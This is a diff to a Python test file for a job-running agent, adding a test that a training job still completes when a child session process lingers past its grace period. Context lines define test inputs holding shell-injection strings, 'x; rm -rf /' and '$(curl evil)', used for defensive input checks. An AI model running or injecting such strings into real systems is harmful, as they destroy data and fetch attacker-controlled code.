@@ -23,6 +23,7 @@ from respot.messages import (
 
 from .agent_harness import AgentProcess, Mailbox, start_agent, submit_job
 
+LINGERING = "countjob:LingeringSession"
 SHELLISH = {
     "SEMI": "x; rm -rf /",
     "SUBST": "$(curl evil)",
@@ -271,3 +272,43 @@ def test_a_missing_submission_fails_setup_and_says_why(stage: Stage) -> None:
     [failed] = [m.body for m in mailbox.of(1)]
     assert isinstance(failed, AgentFailed)
     assert failed.reason.startswith("setup failed: cannot read the submission")
+
+
+def test_a_session_process_that_lingers_after_train_returns_still_completes(
+    stage: Stage, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The agent in this process (to shorten its 30 s grace), with a real child and IMDS.
+    from respot.agent import runner
+    from respot.agent.config import AgentConfig
+    from respot.agent.imds import ImdsClient
+
+    from infra.local.imds import ImdsServer
+
+    monkeypatch.setattr(runner, "EXIT_GRACE_SECONDS", 0.5)
+    sub = submit_job(stage.s3, stage.bucket, hyperparameters={}, entry_point=LINGERING)
+    imds = ImdsServer(
+        instance_id="i-0lingering0000000",
+        instance_type="g5.xlarge",
+        availability_zone="us-east-1a",
+        tags={"respot:job-id": sub.job_id, "respot:attempt": "1"},
+    ).start()
+    config = AgentConfig(
+        bucket=stage.bucket,
+        agent_queue_url=stage.queue_url,
+        region="us-east-1",
+        imds_endpoint=imds.url,
+        work_dir=stage.work / "inproc",
+        heartbeat_seconds=0.5,
+        imds_poll_seconds=0.1,
+    )
+    sqs = stage.mailbox.sqs
+    try:
+        t0 = time.monotonic()
+        result = runner.Agent(config, s3=stage.s3, sqs=sqs, imds=ImdsClient(imds.url)).run()
+        took = time.monotonic() - t0
+    finally:
+        imds.stop()
+    stage.mailbox.poll()
+    assert result.outcome == "completed", result
+    assert isinstance(stage.mailbox.of(1)[-1].body, AgentCompleted)
+    assert took < 20
